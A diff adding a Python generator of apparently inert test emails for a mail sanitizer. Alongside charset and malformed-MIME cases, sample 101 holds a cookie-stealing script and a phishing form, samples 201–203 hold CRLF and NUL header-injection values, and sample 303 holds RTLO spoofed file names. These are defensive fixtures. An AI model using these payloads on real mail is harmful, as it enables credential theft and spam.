@@ -1,0 +1,768 @@
+#!/usr/bin/env python3
+"""Writes every samples/NNN-*.eml, deterministically (python3, stdlib only).
+
+    python3 samples/generate.py          # rewrite the .eml files
+    python3 samples/generate.py --check  # exit 1 if a committed .eml differs
+
+The .expect.toml files beside them are written by hand: they are the
+expectations, this script only produces inputs. Every sample is inert: the
+"malware" is the EICAR test string (built here from pieces and stored base64
+in the .eml) and a 128-byte MZ stub that does nothing.
+
+Mails end lines with CRLF unless a sample is about bare LF. Nothing depends
+on the clock, the locale or the random module.
+"""
+
+import base64
+import os
+import quopri
+import struct
+import sys
+import urllib.parse
+import zipfile
+import zlib
+from io import BytesIO
+
+HERE = os.path.dirname(os.path.abspath(__file__))
+DATE = "Thu, 14 Nov 2024 10:30:00 +0900"
+TO = "soumu@city.example.lg.jp"
+
+
+# --- encoders --------------------------------------------------------------
+
+def sjis_to_jis(pair):
+    """A two-byte CP932 code as its JIS X 0208 row/cell bytes (NEC row 13
+    included; IBM extensions have no JIS code and are refused)."""
+    s1, s2 = pair
+    if s1 >= 0xE0:
+        s1 -= 0x40
+    j1 = (s1 - 0x81) * 2 + 0x21
+    if s2 >= 0x9F:
+        j1 += 1
+        j2 = s2 - 0x9F + 0x21
+    else:
+        j2 = s2 - 0x40 + 0x21 - (1 if s2 >= 0x80 else 0)
+    assert 0x21 <= j1 <= 0x7E and 0x21 <= j2 <= 0x7E, pair
+    return bytes([j1, j2])
+
+
+def cp50221(text):
+    """ISO-2022-JP as Windows writes it (CP50220/50221): JIS X 0208 plus the
+    NEC special characters of row 13 (①, ㈱, Ⅲ) via ESC $ B, half-width
+    kana via ESC ( I. Python's iso2022_jp codecs cannot write either."""
+    out = bytearray()
+    mode = "ascii"
+    escapes = {"ascii": b"\x1b(B", "kana": b"\x1b(I", "jis": b"\x1b$B"}
+    for ch in text:
+        b = ch.encode("cp932")
+        if len(b) == 1 and b[0] < 0x80:
+            want, data = "ascii", b
+        elif len(b) == 1:
+            want, data = "kana", bytes([b[0] - 0x80])
+        else:
+            want, data = "jis", sjis_to_jis(b)
+        if want != mode:
+            out += escapes[want]
+            mode = want
+        out += data
+    if mode != "ascii":
+        out += escapes["ascii"]
+    return bytes(out)
+
+
+def cp50222_so_si(text):
+    """Half-width kana between SO and SI (CP50222), the rest as cp50221."""
+    out = bytearray()
+    kana = False
+    for ch in text:
+        b = ch.encode("cp932")
+        if len(b) == 1 and 0xA1 <= b[0] <= 0xDF:
+            if not kana:
+                out += b"\x0e"
+                kana = True
+            out += bytes([b[0] - 0x80])
+        else:
+            if kana:
+                out += b"\x0f"
+                kana = False
+            out += cp50221(ch)
+    if kana:
+        out += b"\x0f"
+    return bytes(out)
+
+
+def encode(text, charset):
+    if charset.lower() == "iso-2022-jp":
+        return cp50221(text)
+    return text.encode(charset)
+
+
+def b_word(text, charset="UTF-8", chunk=12):
+    """RFC 2047 B encoded words, each a whole number of characters."""
+    words = []
+    for i in range(0, len(text), chunk):
+        piece = encode(text[i:i + chunk], charset)
+        words.append("=?%s?B?%s?=" % (charset, base64.b64encode(piece).decode()))
+    return "\r\n ".join(words)
+
+
+def b64_lines(data, width=76):
+    s = base64.b64encode(data).decode()
+    return "\r\n".join(s[i:i + width] for i in range(0, len(s), width))
+
+
+def qp(data):
+    return quopri.encodestring(data).decode("ascii").replace("\r\n", "\n").replace("\n", "\r\n")
+
+
+def crlf(text):
+    """Normalizes a text block to CRLF line ends."""
+    return text.replace("\r\n", "\n").replace("\n", "\r\n")
+
+
+# --- message assembly --------------------------------------------------------
+
+def head(n, subject=None, frm='"Sender" <sender@example.jp>', extra=()):
+    lines = ["From: " + frm, "To: " + TO]
+    if subject is not None:
+        lines.append("Subject: " + subject)
+    lines += ["Date: " + DATE, "Message-ID: <sample-%03d@samples.mukaika.invalid>" % n, "MIME-Version: 1.0"]
+    lines += list(extra)
+    return lines
+
+
+def message(lines, body):
+    """Header lines (str) and a body (bytes or str) as CRLF mail bytes."""
+    if isinstance(body, str):
+        body = crlf(body).encode("ascii")
+    return ("\r\n".join(lines) + "\r\n\r\n").encode("ascii") + body
+
+
+def part(headers, body):
+    if isinstance(body, str):
+        body = crlf(body).encode("ascii")
+    return ("\r\n".join(headers) + "\r\n\r\n").encode("ascii") + body
+
+
+def multipart(boundary, parts, preamble=b"", close=True):
+    out = bytearray(preamble)
+    for p in parts:
+        out += b"--" + boundary.encode() + b"\r\n" + p
+        if not p.endswith(b"\r\n"):
+            out += b"\r\n"
+    if close:
+        out += b"--" + boundary.encode() + b"--\r\n"
+    return bytes(out)
+
+
+def text_part(text, charset="UTF-8", cte="base64", extra=()):
+    data = encode(text, charset)
+    headers = ['Content-Type: text/plain; charset="%s"' % charset, "Content-Transfer-Encoding: " + cte]
+    headers += list(extra)
+    if cte == "base64":
+        return part(headers, b64_lines(data) + "\r\n")
+    if cte == "quoted-printable":
+        return part(headers, qp(data))
+    return part(headers, crlf_bytes(data))
+
+
+def crlf_bytes(data):
+    return data.replace(b"\r\n", b"\n").replace(b"\n", b"\r\n")
+
+
+# --- inert payloads ----------------------------------------------------------
+
+def eicar():
+    # The standard 68-byte anti-virus test file, assembled from pieces so that
+    # neither this script nor the repository holds it verbatim.
+    pieces = ["X5O!P%@AP[4\\PZX54(P^)7CC)7}$", "EICAR-STANDARD-", "ANTIVIRUS-TEST-FILE!", "$H+H*"]
+    data = "".join(pieces).encode("ascii")
+    assert len(data) == 68
+    return data
+
+
+def mz_stub():
+    """An MZ header and DOS stub text; no PE, no code that does anything."""
+    data = bytearray(b"MZ" + b"\x90\x00" + b"\x00" * 56 + struct.pack("<I", 0))
+    data += b"This program cannot be run in DOS mode.\r\r\n$" + b"\x00" * 8
+    data += b"MUKAIKA INERT SAMPLE - NOT AN EXECUTABLE"
+    return bytes(data.ljust(128, b"\x00"))
+
+
+def png_1x1():
+    def chunk(kind, payload):
+        return struct.pack(">I", len(payload)) + kind + payload + struct.pack(">I", zlib.crc32(kind + payload))
+    ihdr = struct.pack(">IIBBBBB", 1, 1, 8, 6, 0, 0, 0)
+    idat = zlib.compress(b"\x00\xff\x00\x00\xff", 9)
+    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", idat) + chunk(b"IEND", b"")
+
+
+def small_zip():
+    buf = BytesIO()
+    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
+        info = zipfile.ZipInfo("readme.txt", date_time=(2024, 11, 14, 10, 30, 0))
+        info.external_attr = 0o644 << 16
+        z.writestr(info, "zip content: should not reach LGWAN\n")
+    return buf.getvalue()
+
+
+# --- samples -----------------------------------------------------------------
+
+SAMPLES = {}
+
+
+def sample(name):
+    def register(fn):
+        SAMPLES[name] = fn
+        return fn
+    return register
+
+
+# 0xx: charsets ----------------------------------------------------------------
+
+@sample("001-iso2022jp-cp50220")
+def _():
+    subject = "【重要】①㈱Ⅲ ｱｲｳ 会議のお知らせ"
+    body = ("総務課 各位\n\n"
+            "第①回 定例会議を開催します。\n"
+            "主催: ㈱みなと商事　第Ⅲ期\n"
+            "半角カナ: ｶｲｷﾞｼﾂ ﾆ ｼｭｳｺﾞｳ\n"
+            "日時: 10時～12時\n")
+    lines = head(1, b_word(subject, "ISO-2022-JP", chunk=6),
+                 extra=['Content-Type: text/plain; charset="ISO-2022-JP"', "Content-Transfer-Encoding: 7bit"])
+    return message(lines, crlf_bytes(cp50221(body)))
+
+
+@sample("002-shiftjis-wave-dash")
+def _():
+    # ～ is written by Windows as 0x8160 and － as 0x817C; both must come back
+    # as U+FF5E / U+FF0D (CP932), not U+301C / U+2212 (JIS X 0208 mapping).
+    body = "受付時間: 9時～17時\n電話: 03－1234－5678\n①髙﨑様\n"
+    data = body.encode("cp932")
+    assert b"\x81\x60" in data and b"\x81\x7c" in data
+    lines = head(2, b_word("受付時間～のご案内"),
+                 extra=['Content-Type: text/plain; charset="Shift_JIS"', "Content-Transfer-Encoding: 8bit"])
+    return message(lines, crlf_bytes(data))
+
+
+@sample("003-euc-jp")
+def _():
+    body = "東京都千代田区霞が関の庁舎で会議があります。\n出席者は総務課までご連絡ください。\n"
+    lines = head(3, b_word("会議のご案内"),
+                 extra=['Content-Type: text/plain; charset="EUC-JP"', "Content-Transfer-Encoding: 8bit"])
+    return message(lines, crlf_bytes(body.encode("euc_jp")))
+
+
+@sample("004-utf8-base64")
+def _():
+    body = "お世話になっております。\n髙﨑です 😀\n資料を送付いたします。\n"
+    lines = head(4, b_word("資料送付のお知らせ 😀"),
+                 extra=['Content-Type: text/plain; charset="UTF-8"', "Content-Transfer-Encoding: base64"])
+    return message(lines, b64_lines(body.encode("utf-8")) + "\r\n")
+
+
+@sample("005-utf8-quoted-printable")
+def _():
+    # Hand-written QP: the soft line break splits "議" (E8 AD B0) between its
+    # bytes, which a decoder must join before reading UTF-8.
+    body = ("=E4=BC=9A=E8=AD=\r\n"
+            "=B0=E3=81=AF=E5=8D=88=E5=BE=8C=E3=81=A7=E3=81=99=E3=80=82\r\n"
+            "caf=C3=A9 na=C3=AFve =3D equals\r\n")
+    lines = head(5, "=?UTF-8?Q?=E4=BC=9A=E8=AD=B0_QP?=",
+                 extra=['Content-Type: text/plain; charset="UTF-8"', "Content-Transfer-Encoding: quoted-printable"])
+    return message(lines, body)
+
+
+@sample("006-shiftjis-no-charset")
+def _():
+    body = ("いつもお世話になっております。株式会社みなと商事の山田でございます。\n"
+            "先日ご依頼いただきました見積書を送付いたしますので、ご査収のほどよろしくお願い申し上げます。\n"
+            "納期は来月末を予定しております。ご不明な点がございましたらお気軽にお問い合わせください。\n")
+    lines = head(6, b_word("見積書の送付について"),
+                 extra=["Content-Type: text/plain", "Content-Transfer-Encoding: 8bit"])
+    return message(lines, crlf_bytes(body.encode("cp932")))
+
+
+@sample("007-eucjp-no-charset")
+def _():
+    body = ("市民課からのお知らせです。住民票の写しの交付窓口は、年末年始の期間中は休業いたします。\n"
+            "お急ぎの方はコンビニエンスストアでの交付サービスをご利用ください。\n")
+    # No Content-Type at all: RFC 2045 says text/plain; us-ascii, the bytes say EUC-JP.
+    lines = head(7, b_word("窓口休業のお知らせ"), extra=["Content-Transfer-Encoding: 8bit"])
+    return message(lines, crlf_bytes(body.encode("euc_jp")))
+
+
+@sample("008-shiftjis-labelled-iso2022jp")
+def _():
+    body = "会議の日程について\n来週の月曜日に変更となりました。\n"
+    lines = head(8, b_word("日程変更"),
+                 extra=['Content-Type: text/plain; charset="ISO-2022-JP"', "Content-Transfer-Encoding: 8bit"])
+    return message(lines, crlf_bytes(body.encode("cp932")))
+
+
+@sample("009-attachment-rfc2231-name")
+def _():
+    name = "議事録（第３回）令和６年度.txt"
+    quoted = urllib.parse.quote(name.encode("utf-8"), safe="")
+    # RFC 2231 continuations, as Thunderbird writes long names.
+    half = len(quoted) // 2
+    while quoted[half - 1] == "%" or quoted[half - 2] == "%":
+        half += 1
+    disposition = ("Content-Disposition: attachment;\r\n"
+                   " filename*0*=UTF-8''%s;\r\n filename*1*=%s" % (quoted[:half], quoted[half:]))
+    attachment = part(['Content-Type: text/plain; charset="Shift_JIS"', "Content-Transfer-Encoding: base64",
+                       disposition],
+                      b64_lines("議事録\n日時: 13時～15時\n出席者: 山田、髙橋\n".encode("cp932")) + "\r\n")
+    lines = head(9, b_word("議事録送付"), extra=['Content-Type: multipart/mixed; boundary="b009"'])
+    return message(lines, multipart("b009", [text_part("議事録を添付します。\n"), attachment]))
+
+
+@sample("010-attachment-rfc2047-quoted-name")
+def _():
+    name = "見積書_2024年度.txt"
+    word = b_word(name, "ISO-2022-JP", chunk=40)
+    attachment = part(['Content-Type: text/plain; charset="ISO-2022-JP";\r\n name="%s"' % word,
+                       "Content-Transfer-Encoding: 7bit",
+                       'Content-Disposition: attachment;\r\n filename="%s"' % word],
+                      crlf_bytes(cp50221("見積金額: ①一式 100,000円\n")))
+    lines = head(10, b_word("見積書", "ISO-2022-JP"), extra=['Content-Type: multipart/mixed; boundary="b010"'])
+    return message(lines, multipart("b010", [text_part("見積書を添付いたします。\n", "ISO-2022-JP", "7bit"),
+                                             attachment]))
+
+
+@sample("011-gb18030")
+def _():
+    body = "您好，会议通知：请于周一上午十点参加。罕见字：㐀 表情：😀\n"
+    data = body.encode("gb18030")
+    assert b"\x81\x39\xee\x39" in data  # a four-byte GB18030 sequence
+    lines = head(11, b_word("会议通知"),
+                 extra=['Content-Type: text/plain; charset="GB18030"', "Content-Transfer-Encoding: base64"])
+    return message(lines, b64_lines(data) + "\r\n")
+
+
+@sample("012-big5")
+def _():
+    body = "您好，會議通知：請於週一上午十點參加。\n"
+    lines = head(12, b_word("會議通知"),
+                 extra=['Content-Type: text/plain; charset="Big5"', "Content-Transfer-Encoding: base64"])
+    return message(lines, b64_lines(body.encode("big5")) + "\r\n")
+
+
+@sample("013-euc-kr")
+def _():
+    body = "안녕하세요. 회의 안내를 드립니다.\n"
+    lines = head(13, b_word("회의 안내"),
+                 extra=['Content-Type: text/plain; charset="EUC-KR"', "Content-Transfer-Encoding: 8bit"])
+    return message(lines, crlf_bytes(body.encode("euc_kr")))
+
+
+@sample("014-iso-8859-1")
+def _():
+    body = "Café, résumé, naïve, Größe: £5 © 2024\n"
+    lines = head(14, "=?ISO-8859-1?Q?Caf=E9_r=E9sum=E9?=",
+                 extra=['Content-Type: text/plain; charset="ISO-8859-1"', "Content-Transfer-Encoding: quoted-printable"])
+    return message(lines, qp(body.encode("latin-1")))
+
+
+@sample("015-utf8-labelled-us-ascii")
+def _():
+    body = "日本語の本文です。ラベルは us-ascii ですが中身は UTF-8 です。\n"
+    lines = head(15, "label says us-ascii",
+                 extra=['Content-Type: text/plain; charset="us-ascii"', "Content-Transfer-Encoding: 8bit"])
+    return message(lines, crlf_bytes(body.encode("utf-8")))
+
+
+@sample("016-iso2022jp-so-si-kana")
+def _():
+    body = "半角カナ(SO/SI): ｱｲｳｴｵ ｶﾞｷﾞｸﾞ\n"
+    lines = head(16, b_word("SO/SI カナ", "ISO-2022-JP"),
+                 extra=['Content-Type: text/plain; charset="ISO-2022-JP"', "Content-Transfer-Encoding: 7bit"])
+    return message(lines, crlf_bytes(cp50222_so_si(body)))
+
+
+@sample("017-attachment-rfc2047-unquoted-name")
+def _():
+    name = "請求書.txt"
+    word = "=?UTF-8?B?%s?=" % base64.b64encode(name.encode("utf-8")).decode()
+    attachment = part(["Content-Type: text/plain; charset=UTF-8; name=" + word,
+                       "Content-Transfer-Encoding: base64",
+                       "Content-Disposition: attachment; filename=" + word],
+                      b64_lines("請求金額: 5,000円\n".encode("utf-8")) + "\r\n")
+    lines = head(17, b_word("請求書"), extra=['Content-Type: multipart/mixed; boundary="b017"'])
+    return message(lines, multipart("b017", [text_part("請求書を送ります。\n"), attachment]))
+
+
+@sample("018-raw-shiftjis-subject")
+def _():
+    # Old Japanese mailers write 8-bit Shift_JIS straight into the header.
+    subject = "【至急】請求書の件".encode("cp932")
+    body = "至急ご確認ください。\n".encode("cp932")
+    lines = head(18, "@@SUBJECT@@",
+                 extra=['Content-Type: text/plain; charset="Shift_JIS"', "Content-Transfer-Encoding: 8bit"])
+    return message(lines, crlf_bytes(body)).replace(b"@@SUBJECT@@", subject)
+
+
+# 1xx: HTML and links ------------------------------------------------------------
+
+SCRIPT_HTML = """<!DOCTYPE html>
+<html><head>
+<meta charset="utf-8">
+<style>body { color: red; } .x { background: url(https://track.example.com/bg.png); }</style>
+<script>document.location = "https://evil.example.com/steal?c=" + document.cookie;</script>
+</head>
+<body onload="alert('onload')">
+<div style="display:none">PREHEADER-HIDDEN-TEXT 当選おめでとうございます</div>
+<p>お客様各位</p>
+<p>アカウントの確認が必要です。</p>
+<iframe src="https://evil.example.com/frame"></iframe>
+<form action="https://evil.example.com/login" method="post">
+<input type="password" name="pw"><input type="submit" value="送信">
+</form>
+<p><a href="javascript:alert(document.cookie)">こちらをクリック</a></p>
+<p><a href="https://evil.example.com/login">https://bank.example.jp/login</a></p>
+<img src="https://track.example.com/pixel.gif?id=123" width="1" height="1">
+<p>ACTIVE-HTML-END</p>
+<script>alert("second")</script>
+</body></html>
+"""
+
+
+@sample("101-html-script-laden")
+def _():
+    lines = head(101, b_word("【重要】アカウント確認のお願い"),
+                 extra=['Content-Type: text/html; charset="UTF-8"', "Content-Transfer-Encoding: base64"])
+    return message(lines, b64_lines(SCRIPT_HTML.encode("utf-8")) + "\r\n")
+
+
+@sample("102-alternative-plain-html")
+def _():
+    plain = "平文の本文です。\n詳細: https://www.city.example.lg.jp/info\n"
+    html = ("<html><body><p>HTML-ONLY-TEXT HTMLの本文です。</p>"
+            "<p><a href=\"https://www.city.example.lg.jp/info\">詳細</a></p></body></html>\n")
+    alt = multipart("b102", [text_part(plain, cte="quoted-printable"),
+                             part(['Content-Type: text/html; charset="UTF-8"', "Content-Transfer-Encoding: base64"],
+                                  b64_lines(html.encode("utf-8")) + "\r\n")])
+    lines = head(102, b_word("お知らせ"), extra=['Content-Type: multipart/alternative; boundary="b102"'])
+    return message(lines, alt)
+
+
+@sample("103-html-only-table-list")
+def _():
+    html = """<html><body>
+<h1>発注内容</h1>
+<table border="1">
+<tr><th>品目</th><th>数量</th><th>単価</th></tr>
+<tr><td>コピー用紙 A4</td><td>10</td><td>450円</td></tr>
+<tr><td>ボールペン</td><td>50</td><td>80円</td></tr>
+</table>
+<ul><li>納品先: 本庁舎 3階</li><li>納期: 11月30日</li></ul>
+<ol><li>第一項</li><li>第二項</li></ol>
+<p>以上、よろしくお願いいたします。&amp;&lt;&gt;&copy;</p>
+</body></html>
+"""
+    lines = head(103, b_word("発注内容のご確認"),
+                 extra=['Content-Type: text/html; charset="UTF-8"', "Content-Transfer-Encoding: quoted-printable"])
+    return message(lines, qp(html.encode("utf-8")))
+
+
+@sample("104-html-shiftjis-meta-charset")
+def _():
+    html = """<html><head>
+<meta http-equiv="Content-Type" content="text/html; charset=Shift_JIS">
+<title>市政だより</title>
+</head><body>
+<h2>市政だより 11月号</h2>
+<p>市民の皆様へ。今月の市政だよりをお届けします。</p>
+<p>健康診断の受付時間は 9時～16時 です。電話番号: 0120－123－456</p>
+<p>詳しくは <a href="https://www.city.example.lg.jp/dayori">市のホームページ</a> をご覧ください。</p>
+<p>配信停止は<a href="https://news.example.com/unsubscribe?u=1">こちら</a></p>
+</body></html>
+"""
+    # No charset on the MIME label: only the <meta> says Shift_JIS.
+    lines = head(104, b_word("市政だより 11月号"),
+                 extra=["Content-Type: text/html", "Content-Transfer-Encoding: 8bit"])
+    return message(lines, crlf_bytes(html.encode("cp932")))
+
+
+@sample("105-strict-links-removed")
+def _():
+    body = ("リンク一覧:\n"
+            "https://www.city.example.lg.jp/info\n"
+            "http://evil.example.com/login?user=1\n"
+            "ftp://files.example.com/pub/a.txt\n"
+            "www.example.org/page\n"
+            "本文の終わり\n")
+    lines = head(105, b_word("リンクのテスト"),
+                 extra=['Content-Type: text/plain; charset="UTF-8"', "Content-Transfer-Encoding: 8bit"])
+    return message(lines, crlf_bytes(body.encode("utf-8")))
+
+
+@sample("106-plain-links-defanged")
+def _():
+    body = ("ログインはこちら: https://evil.example.com/login?next=/home\n"
+            "参考: http://www.example.org/page.html\n"
+            "危険: javascript:alert(1)\n")
+    lines = head(106, "Please log in",
+                 extra=['Content-Type: text/plain; charset="UTF-8"', "Content-Transfer-Encoding: 8bit"])
+    return message(lines, crlf_bytes(body.encode("utf-8")))
+
+
+# 2xx: header injection ------------------------------------------------------------
+
+@sample("201-subject-crlf-bcc")
+def _():
+    lines = head(201, "=?utf-8?q?x=0D=0ABcc:_evil@example.com?=",
+                 extra=['Content-Type: text/plain; charset="UTF-8"'])
+    return message(lines, "body of 201\n")
+
+
+@sample("202-from-crlf-display-name")
+def _():
+    name = "Tanaka\r\nBcc: evil@example.com\r\nX-Injected: yes"
+    frm = "=?UTF-8?B?%s?= <tanaka@example.jp>" % base64.b64encode(name.encode()).decode()
+    reply = "=?UTF-8?Q?Reply=0ATo:_evil@example.com?= <reply@example.jp>"
+    lines = head(202, "display name injection", frm=frm,
+                 extra=["Reply-To: " + reply, 'Content-Type: text/plain; charset="UTF-8"'])
+    return message(lines, "body of 202\n")
+
+
+@sample("203-nul-bytes")
+def _():
+    lines = head(203, "abc@@NUL@@def",
+                 extra=["X-Nul: a@@NUL@@b", "Bcc@@NUL@@: evil@example.com",
+                        'Content-Type: text/plain; charset="UTF-8"', "Content-Transfer-Encoding: 8bit"])
+    raw = message(lines, "line1@@NUL@@line2\nend of 203\n")
+    return raw.replace(b"@@NUL@@", b"\x00")
+
+
+# 3xx: attachments ------------------------------------------------------------------
+
+@sample("301-eicar")
+def _():
+    attachment = part(['Content-Type: application/octet-stream; name="eicar.com"',
+                       "Content-Transfer-Encoding: base64",
+                       'Content-Disposition: attachment; filename="eicar.com"'],
+                      b64_lines(eicar()) + "\r\n")
+    lines = head(301, "EICAR test", extra=['Content-Type: multipart/mixed; boundary="b301"'])
+    return message(lines, multipart("b301", [text_part("Anti-virus test file attached.\n"), attachment]))
+
+
+@sample("302-invoice-pdf-exe")
+def _():
+    attachment = part(['Content-Type: application/pdf; name="invoice.pdf.exe"',
+                       "Content-Transfer-Encoding: base64",
+                       'Content-Disposition: attachment; filename="invoice.pdf.exe"'],
+                      b64_lines(mz_stub()) + "\r\n")
+    lines = head(302, b_word("請求書送付"), extra=['Content-Type: multipart/mixed; boundary="b302"'])
+    return message(lines, multipart("b302", [text_part("請求書をご確認ください。\n"), attachment]))
+
+
+@sample("303-rtlo-filename")
+def _():
+    # "photo\u202Egpj.exe" displays as "photoexe.jpg".
+    exe_name = "photo\u202egpj.exe"
+    txt_name = "memo\u202etxt.exe"
+    def star(name):
+        return "UTF-8''" + urllib.parse.quote(name.encode("utf-8"), safe="")
+    exe = part(['Content-Type: image/jpeg; name="%s"' % b_word(exe_name, chunk=40),
+                "Content-Transfer-Encoding: base64",
+                "Content-Disposition: attachment; filename*=" + star(exe_name)],
+               b64_lines(mz_stub()) + "\r\n")
+    txt = part(['Content-Type: text/plain; charset="UTF-8"', "Content-Transfer-Encoding: base64",
+                "Content-Disposition: attachment; filename*=" + star(txt_name)],
+               b64_lines("just text\n".encode()) + "\r\n")
+    lines = head(303, "photos", extra=['Content-Type: multipart/mixed; boundary="b303"'])
+    return message(lines, multipart("b303", [text_part("写真を送ります。\n"), exe, txt]))
+
+
+@sample("304-related-inline-image")
+def _():
+    html = ('<html><body><p>ロゴ入りのお知らせ</p><img src="cid:logo@example.jp" alt="logo">'
+            "<p>INLINE-IMAGE-END</p></body></html>\n")
+    related = multipart("b304r", [
+        part(['Content-Type: text/html; charset="UTF-8"', "Content-Transfer-Encoding: base64"],
+             b64_lines(html.encode("utf-8")) + "\r\n"),
+        part(["Content-Type: image/png", "Content-Transfer-Encoding: base64", "Content-ID: <logo@example.jp>",
+              "Content-Disposition: inline"],
+             b64_lines(png_1x1()) + "\r\n"),
+    ])
+    lines = head(304, "inline image",
+                 extra=['Content-Type: multipart/related; type="text/html"; boundary="b304r"'])
+    return message(lines, related)
+
+
+@sample("305-zip-attachment")
+def _():
+    attachment = part(['Content-Type: application/zip; name="documents.zip"',
+                       "Content-Transfer-Encoding: base64",
+                       'Content-Disposition: attachment; filename="documents.zip"'],
+                      b64_lines(small_zip()) + "\r\n")
+    lines = head(305, "zip", extra=['Content-Type: multipart/mixed; boundary="b305"'])
+    return message(lines, multipart("b305", [text_part("ZIPファイルを添付します。\n"), attachment]))
+
+
+@sample("306-forwarded-rfc822")
+def _():
+    inner_html = ("<html><body><p>FORWARDED-HTML-TEXT 転送元の本文です。</p>"
+                  "<script>alert('inner')</script>"
+                  '<p><a href="https://evil.example.com/inner">https://bank.example.jp/</a></p>'
+                  "</body></html>\n")
+    inner = message(
+        ['From: %s <origin@example.com>' % b_word("転送元"), "To: yamada@example.jp",
+         "Subject: " + b_word("元のメール"), "Date: Wed, 13 Nov 2024 09:00:00 +0900",
+         "Message-ID: <inner-306@samples.mukaika.invalid>", "Bcc: hidden@example.com",
+         "X-Inner-Header: must not surface", "MIME-Version: 1.0",
+         'Content-Type: multipart/mixed; boundary="b306i"'],
+        multipart("b306i", [
+            part(['Content-Type: text/html; charset="UTF-8"', "Content-Transfer-Encoding: base64"],
+                 b64_lines(inner_html.encode("utf-8")) + "\r\n"),
+            part(['Content-Type: application/x-msdownload; name="setup.exe"', "Content-Transfer-Encoding: base64",
+                  'Content-Disposition: attachment; filename="setup.exe"'], b64_lines(mz_stub()) + "\r\n"),
+            part(['Content-Type: text/plain; charset="Shift_JIS"; name="%s"' % b_word("議事録.txt", "ISO-2022-JP"),
+                  "Content-Transfer-Encoding: base64",
+                  'Content-Disposition: attachment; filename="%s"' % b_word("議事録.txt", "ISO-2022-JP")],
+                 b64_lines("転送された議事録 9時～10時\n".encode("cp932")) + "\r\n"),
+        ]))
+    outer = multipart("b306", [
+        text_part("以下のメールを転送します。\n"),
+        part(["Content-Type: message/rfc822", 'Content-Disposition: attachment; filename="forwarded.eml"'], inner),
+    ])
+    lines = head(306, b_word("Fw: 元のメール"), extra=['Content-Type: multipart/mixed; boundary="b306"'])
+    return message(lines, outer)
+
+
+# 4xx: malformed MIME -----------------------------------------------------------------
+
+@sample("401-missing-final-boundary")
+def _():
+    body = multipart("b401", [
+        text_part("最後の境界がありません。\n"),
+        part(['Content-Type: text/plain; charset="UTF-8"', "Content-Transfer-Encoding: 8bit",
+              'Content-Disposition: attachment; filename="notes.txt"'],
+             crlf_bytes("notes without a closing boundary\n".encode())),
+    ], close=False)
+    lines = head(401, "missing final boundary", extra=['Content-Type: multipart/mixed; boundary="b401"'])
+    return message(lines, body)
+
+
+@sample("402-deep-nesting-200")
+def _():
+    depth = 200
+    inner = part(['Content-Type: text/plain; charset="UTF-8"'], "DEEPEST-LEVEL-TEXT\n")
+    for level in range(depth, 0, -1):
+        b = "d%03d" % level
+        inner = part(['Content-Type: multipart/mixed; boundary="%s"' % b], multipart(b, [inner]))
+    top = multipart("d000", [text_part("TOP-LEVEL-TEXT 最上位の本文\n"), inner])
+    lines = head(402, "200-deep nesting", extra=['Content-Type: multipart/mixed; boundary="d000"'])
+    return message(lines, top)
+
+
+@sample("403-header-line-1mb")
+def _():
+    lines = head(403, "one header line of 1 MB",
+                 extra=["X-Long: " + "A" * (1024 * 1024), 'Content-Type: text/plain; charset="UTF-8"'])
+    return message(lines, "body of 403\n")
+
+
+@sample("404-5000-headers")
+def _():
+    extra = ["X-Filler-%04d: %d" % (i, i) for i in range(5000)]
+    lines = head(404, "5000 header fields", extra=extra + ['Content-Type: text/plain; charset="UTF-8"'])
+    return message(lines, "body of 404\n")
+
+
+@sample("405-broken-base64")
+def _():
+    good = base64.b64encode("壊れたBASE64の前半".encode("utf-8")).decode()
+    body = good + "\r\n!!!!####@@@@ not base64 at all ####\r\n" + "5pel5pys6Kqe" + "=\r\nQUJD===\r\n"
+    lines = head(405, "broken base64",
+                 extra=['Content-Type: text/plain; charset="UTF-8"', "Content-Transfer-Encoding: base64"])
+    return message(lines, body)
+
+
+@sample("406-broken-quoted-printable")
+def _():
+    body = ("=E5=A3=8A=E3=82=8C=E3=81=9FQP: =ZZ =E6=97 =\r\n"
+            "lone equals = in the middle, =4 truncated escape, =e6=97=a5 lowercase\r\n"
+            "line ends with soft break=\r\n"
+            "QP-END\r\n")
+    lines = head(406, "broken quoted-printable",
+                 extra=['Content-Type: text/plain; charset="UTF-8"', "Content-Transfer-Encoding: quoted-printable"])
+    return message(lines, body)
+
+
+@sample("407-no-headers")
+def _():
+    # Starts with an empty line: an empty header section, then a body.
+    return b"\r\nThis message has no header fields at all.\r\nNO-HEADERS-BODY\r\n"
+
+
+@sample("408-garbage-bytes")
+def _():
+    # Deterministic pseudo-random bytes (an LCG), with CR, LF and NUL among them.
+    state = 408
+    out = bytearray()
+    for _ in range(4096):
+        state = (state * 1103515245 + 12345) & 0x7FFFFFFF
+        out.append((state >> 16) & 0xFF)
+    return bytes(out)
+
+
+@sample("409-multipart-no-boundary")
+def _():
+    body = ("--b409\r\nContent-Type: text/plain\r\n\r\nNO-BOUNDARY-PARAM text\r\n--b409--\r\n")
+    lines = head(409, "multipart without boundary", extra=["Content-Type: multipart/mixed"])
+    return message(lines, body)
+
+
+@sample("410-bare-lf")
+def _():
+    body = multipart("b410", [
+        text_part("LF-ONLY-BODY 改行がLFだけのメールです。\n", cte="8bit"),
+        part(['Content-Type: text/plain; charset="UTF-8"', 'Content-Disposition: attachment; filename="lf.txt"'],
+             "attachment with LF line ends\n"),
+    ])
+    lines = head(410, b_word("LFのみ"), extra=['Content-Type: multipart/mixed; boundary="b410"'])
+    return message(lines, body).replace(b"\r\n", b"\n")
+
+
+@sample("411-too-many-parts")
+def _():
+    parts = [part(['Content-Type: text/plain; charset="UTF-8"'], "part %d\n" % i) for i in range(600)]
+    lines = head(411, "600 parts", extra=['Content-Type: multipart/mixed; boundary="b411"'])
+    return message(lines, multipart("b411", parts))
+
+
+# 5xx: profiles -------------------------------------------------------------------------
+
+@sample("501-legacy-jis-output")
+def _():
+    body = "波ダッシュ: 10時〜12時\n丸数字: ①②\n半角カナ: ｱｲｳ\n絵文字: 😀\n"
+    lines = head(501, b_word("旧来のメーラー向け"),
+                 extra=['Content-Type: text/plain; charset="UTF-8"', "Content-Transfer-Encoding: base64"])
+    return message(lines, b64_lines(body.encode("utf-8")) + "\r\n")
+
+
+def main():
+    check = "--check" in sys.argv[1:]
+    stale = []
+    for name, build in SAMPLES.items():
+        data = build()
+        path = os.path.join(HERE, name + ".eml")
+        if check:
+            with open(path, "rb") as f:
+                if f.read() != data:
+                    stale.append(name)
+        else:
+            with open(path, "wb") as f:
+                f.write(data)
+    if stale:
